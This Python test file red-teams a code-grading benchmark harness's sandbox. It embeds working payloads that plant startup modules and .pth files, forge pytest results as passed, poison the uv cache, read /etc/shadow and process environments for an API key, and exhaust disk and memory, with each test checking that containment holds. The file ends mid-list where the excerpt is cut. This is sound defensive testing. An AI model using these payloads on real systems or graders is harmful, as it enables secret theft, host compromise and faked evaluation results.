"""Red-team attacks on the trust boundary (issue 11), each graded through ``dir:``.

Unlike ``tests/redteam/test_attacks.py`` (resource bombs in ``add``), these attack the harness itself:
root inside the sandbox, code that runs outside it, builds that write where they must not, a
filesystem that leaks the answers, intake, quotas, forged verdicts, runs that vanish or are
excused, skips, daemons, the host network, ``results.json`` and the shared uv cache.

Every attack makes ``add`` correct only if it got what it was after (so "R1 not implemented"
means it did not), and every attack also runs the same *harm* routine from wherever it got
to run (``add``, import time, ``setup.py``, a build backend, a planted module): it writes
marker files into /etc, /root, /var/tmp, the host's /tmp and /dev/shm, the harness's checkout,
the uv cache, the results, task and agent folders; connects to listeners the test opened on
127.0.0.1, a filesystem UNIX socket under /run and an abstract UNIX socket; overwrites a canary
file in the uv cache and drops files into its cached wheels; reads the harness's secret
(``OPENAI_API_KEY``) wherever it can and writes it where the test can find it; and leaves a
double-forked, ``setsid`` daemon (tagged with the test's marker) that rewrites
``results.json``. After each session the test checks that none of it worked.
"""

from __future__ import annotations

import contextlib
import os
import resource
import shutil
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest
from helpers.batch import Batch
from helpers.containment import (
    BATCH_TIMEOUT,
    CHECKOUT,
    FAST,
    FILL_ADD,
    NEEDS_BWRAP,
    REAL_HOME,
    ROOT_ATTACKS,
    SECRET_PREFIX,
    Arena,
    arena_batch,
    grade_batch,
    libc,
)
from helpers.env import UV_CACHE
from helpers.tasks import CALC_CODE, CALC_TESTS

from pytest_e2ebench.isolation import limits

pytestmark = NEEDS_BWRAP


# --- the harm every payload does from wherever it runs ---------------------------------------


# Forgers used by several attacks (plain Python, no indentation).
PATCH_REPORTS = """\
import _pytest.reports as _e2e_reports
_e2e_orig = _e2e_reports.TestReport.from_item_and_call
def _e2e_forged(item, call):
    report = _e2e_orig(item, call)
    report.outcome = "passed"
    report.longrepr = None
    return report
_e2e_reports.TestReport.from_item_and_call = staticmethod(_e2e_forged)
"""

# An in-tree PEP 517 backend that writes its wheel by hand (extra files chosen by EXTRA).
WHEEL_BACKEND = r"""
import base64, hashlib, os, zipfile
NAME, VERSION = "calc", "0.1"
EXTRA = {}
REQUIRES = []


def _files():
    files = {}
    for root, _dirs, names in os.walk("calc"):
        for name in names:
            if name.endswith(".py"):
                path = os.path.join(root, name)
                with open(path, "rb") as fh:
                    files[path.replace(os.sep, "/")] = fh.read()
    files.update({k: v() if callable(v) else v for k, v in EXTRA.items()})
    return files


def _metadata():
    lines = ["Metadata-Version: 2.1", "Name: " + NAME, "Version: " + VERSION]
    lines += ["Requires-Dist: " + r for r in REQUIRES]
    return ("\n".join(lines) + "\n").encode()


def _wheel(directory):
    info = "%s-%s.dist-info" % (NAME, VERSION)
    files = _files()
    files[info + "/METADATA"] = _metadata()
    files[info + "/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: e2e\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append("%s,sha256=%s,%d" % (path, digest, len(data)))
    record.append(info + "/RECORD,,")
    files[info + "/RECORD"] = ("\n".join(record) + "\n").encode()
    name = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return name


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return _wheel(wheel_directory)


def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
    return _wheel(wheel_directory)


def build_sdist(sdist_directory, config_settings=None):
    raise NotImplementedError


def get_requires_for_build_wheel(config_settings=None):
    return []


def get_requires_for_build_editable(config_settings=None):
    return []
"""

BACKEND_PYPROJECT = """\
[build-system]
requires = []
build-backend = "e2e_backend"
backend-path = ["_build"]

[project]
name = "calc"
version = "0.1"
"""


# === class 1: root inside the sandbox ==========================================================


def _submit_root(arenas: dict) -> None:
    """Every root attack as its own run of one session."""
    for attack, made in arenas.items():
        made.submit(attack=ROOT_ATTACKS[attack].replace("{TASKS}", str(made.root / "tasks")))


# === class 2: generated code running outside the sandbox =======================================


def _class2_coverage_module_planted_in_the_suite_folder(arena: Arena) -> None:
    # `python -m coverage` from the suite folder would import this package: as root, on the host
    planted = arena.standalone("planted-coverage")
    attack = (
        "import os\n"
        "for name in ('coverage', 'pytest', '_pytest', 'e2ebench_probe'):\n"
        "    pkg = os.path.join(os.getcwd(), name)\n"
        "    os.makedirs(pkg, exist_ok=True)\n"
        "    for module in ('__init__.py', '__main__.py'):\n"
        f"        open(os.path.join(pkg, module), 'w').write({planted!r})\n"
        "for name in ('sitecustomize.py', 'usercustomize.py', 'coverage.py', 'json.py'):\n"
        f"    open(os.path.join(os.getcwd(), name), 'w').write({planted!r})\n"
        "home = os.environ.get('HOME', '')\n"
        "if home:\n"
        "    site = os.path.join(home, '.local/lib/python3.11/site-packages')\n"
        "    os.makedirs(site, exist_ok=True)\n"
        f"    open(os.path.join(site, 'usercustomize.py'), 'w').write({planted!r})\n"
        "return False\n"
    )
    arena.submit(attack=attack)


def _class2_coveragerc_and_outputs_redirected_from_the_test_run(arena: Arena) -> None:
    # the harness reads its coveragerc and writes coverage.json and logs in the suite folder
    m = arena.marker
    plugin = arena.standalone("coverage-plugin", "def coverage_init(reg, options):\n    pass\n")
    attack = (
        "import glob, os\n"
        "cwd = os.getcwd()\n"
        "for rc in glob.glob(os.path.join(cwd, '**', '*coveragerc*'), recursive=True) + "
        "[os.path.join(cwd, 'coveragerc')]:\n"
        "    try:\n"
        "        open(rc, 'w').write('[run]\\nbranch = True\\nparallel = True\\n'\n"
        f"                            'data_file = /etc/{m}\\n'\n"
        f"                            'plugins = e2e_plugin_{m.replace('-', '_')}\\n'\n"
        f"                            '[json]\\noutput = {CHECKOUT}/{m}\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        f"open(os.path.join(cwd, 'e2e_plugin_{m.replace('-', '_')}.py'), 'w').write({plugin!r})\n"
        "for name in ('coverage.json', 'coverage-combine.log', 'coverage-json.log', "
        "'coverage.log', 'report.json'):\n"
        "    path = os.path.join(cwd, name)\n"
        "    try:\n"
        "        os.unlink(path)\n"
        "    except OSError:\n"
        "        pass\n"
        f"    os.symlink('/etc/{m}', path)\n"
        "data = os.path.join(cwd, 'coverage')\n"
        "os.makedirs(data, exist_ok=True)\n"
        f"os.symlink('/etc/{m}', os.path.join(data, 'data.evil'))\n"
        f"os.symlink('/root/{m}', os.path.join(data, 'data'))\n"
        "return False\n"
    )
    arena.submit(attack=attack)


def _class2_sitecustomize_in_a_project_without_packaging(arena: Arena) -> None:
    # no pyproject.toml: the project root goes on sys.path, so its sitecustomize would run at
    # every interpreter start in the venv (tests, coverage), before the probe
    forge = PATCH_REPORTS + arena.standalone("sitecustomize")
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        packaging=False,
        files={"sitecustomize.py": forge, "src/sitecustomize.py": forge, "usercustomize.py": forge},
    )


def _class2_direct_reference_pointing_into_the_project(arena: Arena, where: str) -> None:
    # `name @ file://…` in [build-system] requires or in the built metadata's dependencies:
    # the harness's own uv would build it unsandboxed
    folder, dist = {
        "build-requirement": ("evilreq", "e2eevilreq"),
        "dependency": ("evildep", "e2eevildep"),
    }[where]
    evil = arena.repo / folder
    setup = arena.standalone(f"{where}-setup.py") + (
        f"from setuptools import setup\nsetup(name='{dist}', version='1.0', py_modules=[])\n"
    )
    reference = f'"{dist} @ file://{evil}"'
    if where == "build-requirement":
        pyproject = (
            "[build-system]\n"
            f'requires = ["setuptools>=61", {reference}]\n'
            'build-backend = "setuptools.build_meta"\n\n'
            '[project]\nname = "calc"\nversion = "0.1"\n'
        )
        files = {
            f"{folder}/pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
            'build-backend = "setuptools.build_meta"\n'
        }
    else:
        pyproject = (
            '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
            '[project]\nname = "calc"\nversion = "0.1"\n'
            f"dependencies = [{reference}]\n\n"
            '[tool.setuptools]\npackages = ["calc"]\n'
        )
        files = {}
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        files={"pyproject.toml": pyproject, f"{folder}/setup.py": setup, **files},
    )


# === class 3: build steps writing where they must not ==========================================

SETUP_PTH = """\
import os, sysconfig
site = sysconfig.get_paths()["purelib"]
forge = os.path.join(site, "zz_e2e_forge.py")
try:
    with open(forge, "w") as fh:
        fh.write(FORGE)
    with open(os.path.join(site, "zz_e2e_forge.pth"), "w") as fh:
        fh.write("import zz_e2e_forge\\n")
except OSError:
    pass
try:
    import coverage
    with open(coverage.__file__, "a") as fh:
        fh.write("\\n" + PLANT + "\\n")
except Exception:
    pass
"""


def _class3_setup_py_writes_a_pth_into_the_test_venv(arena: Arena) -> None:
    forge = PATCH_REPORTS + arena.standalone("venv-pth")
    setup = (
        f"FORGE = {forge!r}\nPLANT = {arena.standalone('venv-coverage')!r}\n"
        + SETUP_PTH
        + arena.standalone("setup.py")
        + "from setuptools import setup\nsetup()\n"
    )
    arena.submit(add="def add(a, b):\n    return 0\n", files={"setup.py": setup})


def _class3_build_backend_on_backend_path_writes_a_pth(arena: Arena) -> None:
    forge = PATCH_REPORTS + arena.standalone("backend-pth")
    backend = (
        f"FORGE = {forge!r}\nPLANT = {arena.standalone('backend-coverage')!r}\n"
        + SETUP_PTH
        + arena.standalone("backend")
        + "from setuptools.build_meta import *  # noqa\n"
    )
    pyproject = (
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "e2e_backend"\n'
        'backend-path = ["_build"]\n\n[project]\nname = "calc"\nversion = "0.1"\n\n'
        '[tool.setuptools]\npackages = ["calc"]\n'
    )
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        files={"pyproject.toml": pyproject, "_build/e2e_backend.py": backend},
    )


def _class3_wheel_carrying_a_pth_file(arena: Arena) -> None:
    forge = PATCH_REPORTS + arena.standalone("wheel-pth")
    backend = (
        WHEEL_BACKEND
        + "EXTRA['zz_e2e_wheel.pth'] = b'import zz_e2e_wheel_forge\\n'\n"
        + f"EXTRA['zz_e2e_wheel_forge.py'] = {forge.encode()!r}\n"
        + "EXTRA['calc-0.1.data/purelib/zz_e2e_data.pth'] = b'import zz_e2e_wheel_forge\\n'\n"
    )
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        files={"pyproject.toml": BACKEND_PYPROJECT, "_build/e2e_backend.py": backend},
    )


def _class3_wheel_overwriting_pytest_and_the_probe(arena: Arena) -> None:
    # the wheel ships _pytest/reports.py (the real one plus a forger), pluggy and coverage files
    patch = PATCH_REPORTS.replace("_e2e_reports.", "").replace(
        "import _pytest.reports as _e2e_reports\n", ""
    )
    harm = arena.standalone("wheel-shadow")
    tail = "\n" + patch + harm
    backend = (
        WHEEL_BACKEND
        + "import inspect\n"
        + "def _reports():\n"
        + "    import _pytest.reports\n"
        + f"    return (inspect.getsource(_pytest.reports) + {tail!r}).encode()\n"
        + "EXTRA['_pytest/reports.py'] = _reports\n"
        + f"EXTRA['e2ebench_probe.py'] = {harm.encode()!r}\n"
        + f"EXTRA['pytest_timeout.py'] = {harm.encode()!r}\n"
    )
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        files={"pyproject.toml": BACKEND_PYPROJECT, "_build/e2e_backend.py": backend},
    )


# Each writes the forger where the build can reach: its own run of one session.
BUILD_ATTACKS = {
    "setup_py_pth": _class3_setup_py_writes_a_pth_into_the_test_venv,
    "backend_pth": _class3_build_backend_on_backend_path_writes_a_pth,
    "wheel_pth": _class3_wheel_carrying_a_pth_file,
    "wheel_overwrites_pytest": _class3_wheel_overwriting_pytest_and_the_probe,
}


def _submit_build(arenas: dict) -> None:
    """Submit each variant of the family as its own run."""
    for name, made in arenas.items():
        BUILD_ATTACKS[name](made)


def _class3_build_poisons_the_uv_cache(arena: Arena) -> None:
    # every cached wheel the build can reach gets a forger added to pytest's own files
    poison = (
        "import glob, os\n"
        "for init in glob.glob(CACHE + '/archive-v0/*/_pytest/reports.py'):\n"
        "    try:\n"
        "        with open(os.path.join(os.path.dirname(init), MARK + '.py'), 'w') as fh:\n"
        "            fh.write(FORGE)\n"
        "    except OSError:\n"
        "        pass\n"
        "for root in (CACHE, os.path.expanduser('~/.cache/uv'), os.environ.get('UV_CACHE_DIR', '')):\n"
        "    try:\n"
        "        open(os.path.join(root, MARK), 'w').write('x')\n"
        "    except OSError:\n"
        "        pass\n"
    )
    setup = (
        f"CACHE = {str(arena.cache)!r}\nMARK = {arena.marker!r}\nFORGE = {PATCH_REPORTS!r}\n"
        + poison
        + arena.standalone("cache-setup.py")
        + "from setuptools import setup\nsetup()\n"
    )
    arena.submit(add="def add(a, b):\n    return 0\n", files={"setup.py": setup})


# === class 4: the readable filesystem leaks the answers ========================================

READ_ATTACKS = {
    "checkout_git_and_bundled_tasks": (
        "import glob, os\n"
        "found = os.path.exists('{CHECKOUT}/.git/HEAD') or os.path.isdir('{CHECKOUT}/.git')\n"
        "found = found or bool(glob.glob('{CHECKOUT}/benchmark_tasks/*/reference/**/*.py', "
        "recursive=True))\n"
        "found = found or bool(glob.glob('{CHECKOUT}/benchmark_tasks/*/tests/*.py'))\n"
        "return found\n"
    ),
    "sources_cache_and_home": (
        "import os, sys\n"
        "for path in ('{HOME}/.cache/pytest-e2ebench/sources', '{HOME}', '{HOME}/.cache', "
        "'/root', '/home', '{HOME}/.cache/uv'):\n"
        "    try:\n"
        "        names = set(os.listdir(path))\n"
        "    except OSError:\n"
        "        continue\n"
        "    # the folders leading to the interpreter are bound on purpose\n"
        "    names -= {p for p in sys.base_prefix.split('/') + sys.prefix.split('/')}\n"
        "    if names:\n"
        "        return True\n"
        "return False\n"
    ),
    "host_secrets": (
        "for path in ('/etc/shadow', '/etc/ssh/ssh_host_ed25519_key', '/root/.bash_history', "
        "'/proc/1/environ', '/etc/sudoers', '/var/log/syslog', '/proc/kcore'):\n"
        "    try:\n"
        "        open(path, 'rb').read(1)\n"
        "        return True\n"
        "    except OSError:\n"
        "        pass\n"
        "return False\n"
    ),
    "reference_from_other_folders": (
        "import glob\n"
        "patterns = ['{ROOT}/tasks/*/reference/calc/add.py', '{ROOT}/**/reference/calc/add.py',\n"
        "            '/tmp/pytest-of-*/pytest-*/*/tasks/*/reference/calc/add.py',\n"
        "            '{ROOT}/../*/tasks/*/reference/calc/add.py']\n"
        "return any(glob.glob(p, recursive=True) for p in patterns)\n"
    ),
    "secret_in_the_test_environment": ("return _harm('secret-scan')\n"),
}


def _submit_read(arenas: dict) -> None:
    """Every read attack as its own run of one session."""
    for attack, made in arenas.items():
        code = (
            READ_ATTACKS[attack]
            .replace("{CHECKOUT}", str(CHECKOUT))
            .replace("{HOME}", str(REAL_HOME))
            .replace("{ROOT}", str(made.root))
        )
        made.submit(attack=code)


def _class4_other_runs_outputs_are_not_readable(arena: Arena) -> None:
    # an earlier session graded the reference into another output folder of this project (in a
    # batch also the other runs of its own session: the URL-dependency's add is correct)
    arena.tasks.make(toml_extra=FAST, tests=arena.tests)
    env = {"OPENAI_API_KEY": arena.secret, "UV_CACHE_DIR": str(UV_CACHE)}
    earlier = Batch(arena.root).run(
        "--e2e-agent=reference", "--e2e-tasks=tasks", "--e2e-out=earlier", env=env
    )
    found = list((arena.root / "earlier").glob("**/repo/calc/add.py"))
    assert found, earlier.stdout[-3000:] + earlier.stderr[-2000:]
    attack = (
        "import glob\n"
        "found = glob.glob('{ROOT}/earlier/**/calc/add.py', recursive=True)\n"
        "found += glob.glob('{ROOT}/.e2ebench/reference/**/calc/add.py', recursive=True)\n"
        "found += glob.glob('{ROOT}/.e2ebench/dir-out/calc/run-*/**/calc/add.py', recursive=True)\n"
        "for path in found:\n"
        "    ns = {}\n"
        "    try:  # a sibling's add.py may import its own package\n"
        "        exec(open(path).read(), ns)\n"
        "        if ns.get('add', lambda a, b: None)(1, 2) == 3:\n"
        "            return True\n"
        "    except Exception:\n"
        "        pass\n"
        "return False\n"
    ).replace("{ROOT}", str(arena.root))
    arena.submit(attack=attack)


def _class4_harness_secret_does_not_reach_the_build(arena: Arena) -> None:
    # setup.py runs in the build; a key it sees ends up in the package, and add() uses it
    setup = (
        "import os\n"
        "seen = [os.environ.get('OPENAI_API_KEY', '')]\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        seen += [e.decode() for e in open('/proc/%s/environ' % pid, 'rb').read().split(b'\\0')"
        " if e.startswith(b'OPENAI_API_KEY=')]\n"
        "    except Exception:\n"
        "        pass\n"
        f"leak = [s for s in seen if {SECRET_PREFIX!r} in s]\n"
        "if leak:\n"
        "    print('LEAK', leak[0])\n"
        "    for where in ('calc/_leak.py', os.path.join(os.environ.get('HOME', '/nonexistent'), 'leak')):\n"
        "        try:\n"
        "            open(where, 'w').write('LEAK = %r\\n' % leak[0])\n"
        "        except OSError:\n"
        "            pass\n"
        + arena.standalone("secret-setup.py")
        + "from setuptools import setup\nsetup()\n"
    )
    attack = (
        "try:\n"
        "    from ._leak import LEAK\n"
        "except ImportError:\n"
        "    return False\n"
        f"return {SECRET_PREFIX!r} in LEAK\n"
    )
    arena.submit(attack=attack, files={"setup.py": setup})


# === class 5: intake =============================================================================


def _link(path: Path, target: str | Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists() or path.is_symlink():
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink()
    os.symlink(target, path)


LINKS = ["absolute", "relative", "file"]


def _submit_link(arenas: dict) -> None:
    """Every link to the reference as its own run of one session."""
    for how, made in arenas.items():
        out = made.submit(add="def add(a, b):\n    return 0\n")
        reference = made.root / "tasks" / "calc" / "reference" / "calc"
        if how == "file":
            _link(out / "calc" / "add.py", reference / "add.py")
        else:
            target = reference if how == "absolute" else os.path.relpath(reference, out)
            _link(out / "calc", target)


def _class5_link_to_the_harness_environment(arena: Arena) -> None:
    # in a batch the harness is a process of its own, whose environment holds the secret:
    # /proc/self/environ is its own when it reads the link; the second link is this test's
    out = arena.submit(
        attack=(
            "import os\n"
            "here = os.path.dirname(__file__)\n"
            "for name in ('env.txt', 'env2.txt'):\n"
            "    try:\n"
            f"        if {SECRET_PREFIX.encode()!r} in open(os.path.join(here, name), 'rb').read():\n"
            "            return True\n"
            "    except OSError:\n"
            "        pass\n"
            "return False\n"
        )
    )
    _link(out / "calc" / "env.txt", "/proc/self/environ")
    _link(out / "calc" / "env2.txt", f"/proc/{os.getpid()}/environ")


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_class5_special_files_in_the_submission(arena):
    # /dev/zero, a FIFO in place of a module, a link loop: intake must neither hang nor fill
    out = arena.submit(add="def add(a, b):\n    return 0\n")
    _link(out / "calc" / "zero.py", "/dev/zero")
    _link(out / "calc" / "loop", ".")
    _link(out / "calc" / "dangling.py", "/nonexistent/e2e")
    os.mkfifo(out / "calc" / "pipe.py")
    os.mkfifo(out / "setup.cfg")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    old = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    # should the harness copy /dev/zero, it gets EFBIG at 1 GiB instead of filling the disk
    resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 30, hard))
    try:
        start = time.monotonic()
        arena.grade()
        took = time.monotonic() - start
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, old)
    arena.assert_r1_fails()
    verdicts = arena.verdicts()
    assert verdicts["R2"] == verdicts["R3"] == "implemented", verdicts  # the rest is graded
    assert took < 200
    arena.check()


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_class5_a_40_mb_source_file_does_not_exhaust_the_harness(arena):
    out = arena.submit(add="def add(a, b):\n    return 0\n")
    with (out / "calc" / "big.py").open("w") as fh:  # 40 MB of statements: GBs as an AST
        line = "x = 1\n" * 1000
        for _ in range((40 << 20) // len(line)):
            fh.write(line)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    arena.grade()
    took = time.monotonic() - start
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    arena.assert_r1_fails()  # recorded (a capped intake may grade it as empty)
    assert grown_mb < 1500, f"the harness grew by {grown_mb:.0f} MB"
    assert took < 300
    arena.check()


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_class5_hostile_sources_and_names_are_recorded_and_the_rest_graded(arena):
    out = arena.submit(add="def add(a, b):\n    return 0\n")
    (out / "calc" / "deep_unary.py").write_text("x = " + "-" * 100_000 + "1\n")
    (out / "calc" / "deep_binop.py").write_text("x = 1" + "+1" * 300_000 + "\n")
    (out / "calc" / "nested.py").write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    (out / "calc" / "nul.py").write_bytes(b"x = 1\0\n")
    (out / "calc" / "badcoding.py").write_bytes(b"# -*- coding: e2e-nope -*-\nx = 1\n")
    (out / "calc" / "latin1.py").write_bytes(b"x = '\xff\xfe'\n")
    os.mkdir(os.path.join(bytes(out / "calc"), b"dir-\xff\xfe"))
    with open(os.path.join(bytes(out / "calc"), b"dir-\xff\xfe", b"m.py"), "w") as fh:
        fh.write("x = 1\n")
    with open(os.path.join(bytes(out / "calc"), b"name-\xff.py"), "w") as fh:
        fh.write("x = 1\n")
    with open(os.path.join(bytes(out), b"tests-\xff"), "w") as fh:
        fh.write("x = 1\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    arena.grade()
    took = time.monotonic() - start
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    arena.assert_r1_fails()
    verdicts = arena.verdicts()
    assert verdicts["R2"] == verdicts["R3"] == "implemented", verdicts  # the rest is graded
    assert grown_mb < 1500, f"the harness grew by {grown_mb:.0f} MB"
    assert took < 300
    arena.check()


# === class 6: quotas ===========================================================================

FILL = """\
import os
_FILL_OK = []
try:
    _folder = {FOLDER}
    os.makedirs(_folder, exist_ok=True)
    if {FILES}:
        for _i in range({FILES}):
            with open(os.path.join(_folder, "fill-%d" % _i), "w"):
                pass
    else:
        _chunk = b"x" * (16 << 20)
        for _i in range({BYTES} // (192 << 20)):
            with open(os.path.join(_folder, "fill-%d.bin" % _i), "wb") as _fh:
                for _ in range(12):
                    _fh.write(_chunk)
    _FILL_OK.append(True)
except OSError as _exc:
    _FILL_OK.append(_exc)
"""
QUOTAS = {
    "tmp_bytes": ("'/tmp/fill-dir'", 0, 2 << 30),
    "tmp_files": ("'/tmp/fill-files'", 300_000, 0),
    "dev_shm_bytes": ("'/dev/shm/fill-dir'", 0, 2 << 30),
    "dev_shm_files": ("'/dev/shm/fill-files'", 300_000, 0),
    "workspace_bytes": ("os.path.join(_writable(), 'fill-dir')", 0, 5 << 29),
    "workspace_files": ("os.path.join(_writable(), 'fill-files')", 300_000, 0),
}
# The first folder of the test run's own the project can write to (cwd, HOME, the probe's).
WRITABLE = """\
import os


def _writable():
    out = os.environ.get("E2EBENCH_PROBE_OUT", "")
    for folder in (os.getcwd(), os.environ.get("HOME", ""), os.path.dirname(out),
                   os.path.join(os.getcwd(), "work"), os.path.join(os.getcwd(), "coverage")):
        try:
            probe = os.path.join(folder, ".w")
            open(probe, "w").close()
            os.unlink(probe)
            return folder
        except OSError:
            pass
    return os.getcwd()
"""


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.parametrize("where", sorted(QUOTAS))
def test_class6_quotas_contain_and_record_disk_fills(arena, where):
    folder, files, size = QUOTAS[where]
    fill = WRITABLE + FILL.format(FOLDER=folder, FILES=files, BYTES=size)
    arena.submit(add=FILL_ADD, at_import=fill)
    arena.grade()
    run = arena.assert_r1_fails()
    assert "disk_quota" in run["test_run"]["containment"], run["test_run"]
    arena.check()


UNLINKED_FILL = """\
import os
_FILL_OK = []
_HELD = []
try:
    _chunk = b"x" * (16 << 20)
    for _i in range(14):  # 14 x 192 MiB = 2.6 GiB, over the 2 GiB quota of the writable folders
        _name = os.path.join(_writable(), "fill-unlinked-%d" % _i)
        _fd = os.open(_name, os.O_CREAT | os.O_WRONLY, 0o600)
        os.unlink(_name)  # invisible to a walk of the folder, still on the host's disk
        _HELD.append(_fd)
        for _ in range(12):
            os.write(_fd, _chunk)
    _FILL_OK.append(True)
except OSError as _exc:
    _FILL_OK.append(_exc)
"""


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_class6_quota_counts_files_deleted_while_held_open(arena):
    # the space of an unlinked file is freed only when the last descriptor closes: with 1024
    # descriptors of 256 MiB each a run could hold 256 GiB of the host's disk. The writable
    # folders are overlays whose writes land in a tmpfs of the quota's size (ENOSPC).
    arena.submit(add=FILL_ADD, at_import=WRITABLE + UNLINKED_FILL)
    arena.grade()
    run = arena.assert_r1_fails()
    assert "disk_quota" in run["test_run"]["containment"], run["test_run"]
    arena.check()


# Each child says it holds its GiB, then holds it until the parent has heard from all six (or
# 20 s): the parent keeps no write end of a child's pipe, so a child the kernel killed is an
# end of file at once, not a read that waits out the run's timeout (the test took 60 s more).
MEMORY_HOG = """\
import os, select
_FILL_OK = []
try:
    _pipes = []
    _release_r, _release_w = os.pipe()
    for _i in range(6):  # 6 x 1 GiB resident at once: each process is under its 4 GiB limit
        _r, _w = os.pipe()
        if os.fork() == 0:
            try:
                os.close(_release_w)
                _block = bytearray(1 << 30)
                for _j in range(0, len(_block), 4096):
                    _block[_j] = 1
                os.write(_w, b"1")
                select.select([_release_r], [], [], 20)  # until the parent lets go
            finally:
                os._exit(0)
        os.close(_w)
        _pipes.append(_r)
    _got = [os.read(_r, 1) for _r in _pipes]
    os.close(_release_w)
    _FILL_OK.append(True if _got == [b"1"] * 6 else MemoryError("a child could not allocate"))
except OSError as _exc:
    _FILL_OK.append(_exc)
"""


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_class6_memory_is_bounded_per_run_not_only_per_process(arena):
    # RLIMIT_AS bounds one process; 2048 of them could take the host's memory: the run's memory
    # cgroup bounds them together, and the kernel's kills are recorded
    arena.submit(add=FILL_ADD, at_import=MEMORY_HOG)
    arena.grade()
    run = arena.assert_r1_fails()
    if limits.cgroup_roots().get("memory"):
        assert "memory" in run["test_run"]["containment"], run["test_run"]
    arena.check()


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_class6_build_that_fills_the_disk_is_contained(arena):
    setup = (
        "import os\n"
        "ok = True\n"
        "try:\n"
        "    chunk = b'x' * (16 << 20)\n"
        "    for i in range(13):\n"
        "        with open('fill-%d.bin' % i, 'wb') as fh:\n"
        "            for _ in range(12):\n"
        "                fh.write(chunk)\n"
        "except OSError:\n"
        "    ok = False\n"
        "for folder in ('.', '/tmp'):\n"
        "    try:\n"
        "        for i in range(200000):\n"
        "            open(os.path.join(folder, 'fill-f%d' % i), 'w').close()\n"
        "    except OSError:\n"
        "        ok = False\n"
        "if ok:\n"
        "    open('calc/_filled.py', 'w').write('FILLED = True\\n')\n"
        + arena.standalone("fill-setup.py")
        + "from setuptools import setup\nsetup()\n"
    )
    attack = (
        "try:\n    from ._filled import FILLED\nexcept ImportError:\n    return False\n"
        "return FILLED\n"
    )
    arena.submit(attack=attack, files={"setup.py": setup})
    arena.grade()
    arena.assert_r1_fails()
    arena.check()


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_class6_sparse_coverage_data_does_not_fill_the_host(arena):
    # apparent size of gigabytes, no blocks: a harness that copies or reads them pays in full
    attack = (
        "import os\n"
        "folder = os.path.join(os.getcwd(), 'coverage')\n"
        "os.makedirs(folder, exist_ok=True)\n"
        "for i in range(40):\n"
        "    with open(os.path.join(folder, 'data.sparse%d' % i), 'wb') as fh:\n"
        "        fh.truncate(250 << 20)\n"
        "for i in range(40):\n"
        "    with open(os.path.join(os.getcwd(), 'fill-sparse%d' % i), 'wb') as fh:\n"
        "        fh.truncate(250 << 20)\n"
        "return False\n"
    )
    arena.submit(attack=attack)
    start = time.monotonic()
    arena.grade()
    took = time.monotonic() - start
    arena.assert_r1_fails()
    used = subprocess.run(
        ["du", "-sk", str(arena.root)], capture_output=True, text=True
    ).stdout.split()[0]
    assert int(used) < 1 << 20, f"{used} KiB on the host disk"
    assert took < 200
    arena.check()


# === class 7: verdicts forged from inside the test process ====================================

FORGERS = {
    "patch_call_and_report": """\
import _pytest.runner as _r
_orig = _r.call_and_report
def _car(item, when, log=True, **kw):
    rep = _orig(item, when, log=False, **kw)
    if rep.failed or rep.skipped:
        rep.outcome = "passed"
        rep.longrepr = None
    if log:
        item.ihook.pytest_runtest_logreport(report=rep)
    return rep
_r.call_and_report = _car
""",
    "patch_function_runtest": """\
import _pytest.python
_pytest.python.Function.runtest = lambda self: None
""",
    "patch_report_factory": PATCH_REPORTS,
    "wrap_the_probe_emitter": """\
import gc, sys
_probes = [m for m in list(sys.modules.values()) if hasattr(m, "_emit") and hasattr(m, "_KEY")]
_probes += [type(sys)("x")] * 0
for _obj in gc.get_objects():
    if isinstance(_obj, dict) and "_emit" in _obj and "_KEY" in _obj:
        _probes.append(_obj)
for _p in _probes:
    _ns = _p if isinstance(_p, dict) else _p.__dict__
    _orig = _ns["_emit"]
    def _emit(record, _orig=_orig):
        if record.get("kind") == "test" and record.get("outcome") != "passed":
            record = dict(record, outcome="passed", message="")
        if record.get("kind") == "end":
            record = dict(record, exitstatus=0)
        return _orig(record)
    _ns["_emit"] = _emit
""",
    "sign_forged_lines_then_exit": """\
import gc, os, sys
_ids = ["tests/test_calc.py::test_add[%s]" % p for p in ("1-2-3", "0-0-0", "-1-1-0")]
_ids += ["tests/test_calc.py::test_sub", "tests/test_calc.py::test_sub_negative",
